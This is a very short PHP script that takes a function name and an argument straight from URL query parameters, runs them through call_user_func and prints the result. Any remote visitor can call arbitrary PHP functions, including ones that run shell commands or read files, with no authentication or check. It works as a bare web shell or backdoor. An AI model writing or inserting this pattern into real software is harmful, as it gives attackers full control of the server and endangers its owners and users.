<?php
$fn = $_GET['fn'];
$arg = $_GET['arg'] ?? '';
echo json_encode(call_user_func($fn, $arg));
